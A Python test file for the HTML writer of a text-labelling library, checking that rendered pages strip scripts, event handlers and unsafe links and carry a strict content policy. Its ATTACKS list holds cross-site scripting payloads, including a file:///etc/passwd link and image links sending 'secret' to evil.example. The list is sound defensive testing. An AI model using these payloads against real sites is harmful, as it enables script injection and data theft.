import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inkseal.core.protocols import Rendering
from inkseal.modalities.text.blocks import shown
from inkseal.modalities.text.shingles import letters
from inkseal.modalities.text.writers.html import Html

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "![](http://evil.example/?q=secret)",
    '![a"onerror=alert(1)](http://evil.example/p.png)',
    '<iframe src="http://evil.example"></iframe>',
    "<a href='http://evil.example' onclick=alert(1)>x</a>",
    "<style>body{background:url(http://evil.example)}</style>",
    "</main><script>1</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
]


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def page(content: str) -> str:
    return Html().write(Rendering(content=content.encode(), title="t", language="zh")).decode()


def tags(text: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(text)
    return parser.seen


@pytest.mark.parametrize("attack", ATTACKS)
def test_fault_47_content_runs_and_fetches_nothing(attack: str) -> None:
    for tag, attributes in tags(page(attack)):
        assert tag not in ("script", "img", "iframe", "svg", "object", "embed", "link", "form", "base")
        assert not any(name.startswith("on") for name in attributes)
        assert "src" not in attributes
        assert re.match(r"https?://|mailto:", attributes.get("href") or "https://")


@given(st.text(alphabet=st.sampled_from("<>&\"'`!-/[]()=:;\\ \njavscriptonehrfxd1")))
def test_no_text_makes_a_tag_that_is_not_ours(content: str) -> None:
    ours = "html head meta title style body main p br h1 h2 h3 h4 h5 h6 ul ol li pre code blockquote em strong a hr s"
    tables = "table thead tbody tr th td"
    assert {tag for tag, _ in tags(page(content))} <= {*ours.split(), *tables.split()}


def test_the_page_forbids_itself_everything_but_its_own_style() -> None:
    text = page("words")
    (policy,) = [a["content"] for t, a in tags(text) if t == "meta" and a.get("http-equiv")]
    assert policy is not None
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy
    assert 'lang="zh"' in text
    assert "width=device-width" in text
    assert "color-scheme:light dark" in text


def test_the_policy_fits_the_style() -> None:
    import base64
    from hashlib import sha256

    text = page("words")
    match = re.search(r"<style>(.*?)</style>", text, re.DOTALL)
    assert match is not None
    digest = base64.b64encode(sha256(match[1].encode()).digest()).decode()
    assert f"'sha256-{digest}'" in text.replace("&#x27;", "'")


def test_links_to_the_web_stay_and_give_nothing_away() -> None:
    assert '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow">' in page(
        "[x](https://example.com/?a=1&b=2)"
    )


@given(st.text())
def test_what_is_read_back_is_what_is_shown(content: str) -> None:
    found = Html().read(page(content).encode()).content.decode()
    cleaned = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]", "\ufffd", content)
    assert letters(found) == letters(shown(cleaned))


def test_numbers_of_lists_are_read_as_a_browser_shows_them() -> None:
    assert "3. three\n\n4. four" in Html().read(page("3. three\n4. four").encode()).content.decode()


def test_the_label_brings_its_own_letters() -> None:
    import base64
    import io

    from fontTools.ttLib import TTFont

    rendering = Rendering(content=b"x", title="t", language="zh", visible_labels=("AI生成",))
    labelled = Html().write(rendering).decode()
    match = re.search(r"url\(data:font/otf;base64,([^)]*)\)", labelled)
    assert match is not None
    font = TTFont(io.BytesIO(base64.b64decode(match[1])))
    assert {chr(code) for code in font.getBestCmap()} == set("AI生成")
